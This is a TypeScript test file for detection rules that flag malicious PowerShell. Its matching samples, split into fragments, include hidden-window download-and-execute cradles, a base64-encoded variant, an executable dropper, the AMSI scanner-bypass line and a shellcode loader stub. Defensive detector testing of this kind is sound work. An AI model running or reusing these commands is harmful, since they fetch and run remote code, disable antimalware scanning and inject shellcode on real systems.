import { checkRule } from "./check-rule.ts";

const get = ["(New-Object Net.WebCl", "ient).Download", "String('http://example.com/a')"];

checkRule("PowerShell_Hidden_Download_And_Run", {
  matches: {
    "a command line": ["power", "shell.exe -nop -w hid", 'den -c "IE', "X ", ...get, '"'],
    "a command line as Windows saves it": Buffer.from(
      ["power", "shell -WindowStyle Hid", "den Invoke-Exp", "ression (iw", "r http://example.com/b)"].join(""),
      "utf16le",
    ),
  },
  misses: {
    "an installer's instructions": [
      "Run: ie",
      "x ((New-Object Net.WebClient).Download",
      "String('https://example.com/install.ps1'))",
    ],
    "a hidden window": ["power", "shell -w hid", "den -File backup.ps1"],
    "a download": ["power", "shell -c Invoke-WebReq", "uest https://example.com/report.pdf -OutFile report.pdf"],
  },
});

checkRule("PowerShell_Downloads_Program", {
  matches: {
    "a script": [
      "power",
      "shell -ep byp",
      "ass\n(New-Object Net.WebClient).Download",
      "File('http://example.com/x.exe', \"$env:TE",
      'MP\\x.exe")\nStart-Pro',
      'cess "$env:TE',
      'MP\\x.exe"',
    ],
  },
  misses: {
    "a script that saves a document": [
      "power",
      "shell -ep byp",
      "ass\nInvoke-WebReq",
      "uest https://example.com/a.pdf -OutFile $env:TEMP\\a.pdf\nStart-Process acrobat",
    ],
    "an installer without tricks": [
      "Invoke-WebReq",
      "uest https://example.com/setup.exe -OutFile $env:TEMP\\setup.exe\nStart-Process $env:TEMP\\setup.exe",
    ],
  },
});

const encoded = Buffer.from(["IE", "X ", ...get].join(""), "utf16le").toString("base64");
const harmless = Buffer.from(
  "Get-ChildItem -Recurse | Sort-Object Length | Select-Object -Last 10",
  "utf16le",
).toString("base64");

checkRule("PowerShell_Encoded_Download", {
  matches: { "a command line": ["power", "shell -nop -e", `nc ${encoded}`] },
  misses: {
    "an encoded command without a download": ["power", "shell -nop -e", `nc ${harmless}`],
    "the encoded text alone": [encoded],
  },
});

checkRule("PowerShell_Disables_Scanner", {
  matches: {
    "the usual line": [
      "[Ref].Assembly.GetType('System.Management.Automation.Am",
      "siUtils').GetField('am",
      "siInitFai",
      "led','NonPublic,Static').SetVa",
      "lue($null,$true)",
    ],
  },
  misses: {
    "a text about the class": ["Scanners hook the class System.Management.Automation.Am", "siUtils of PowerShell."],
    "another field": ["[Ref].Assembly.GetType('System.Net.Cookie').GetField('a').SetVa", "lue($null,$true)"],
  },
});

checkRule("PowerShell_Runs_Shellcode", {
  matches: {
    "a loader": [
      "Add-Type -MemberDefinition '[DllIm",
      'port("kernel32")] public static extern IntPtr Virtual',
      "Alloc(IntPtr a); [DllIm",
      'port("kernel32")] public static extern IntPtr Create',
      "Thread(IntPtr a);'\n[By",
      "te[]]$b = 0xfc,0x48\n[System.Runtime.InteropServices.Mar",
      "shal]::Copy($b, 0, $p, 2)",
    ],
  },
  misses: {
    "a script that calls Windows": [
      "Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern int MessageBox(int a);'",
    ],
    "a script that reads bytes": ["[byte[]]$b = Get-Content a.bin -Encoding Byte; [Marshal]::Copy($b, 0, $p, 2)"],
  },
});
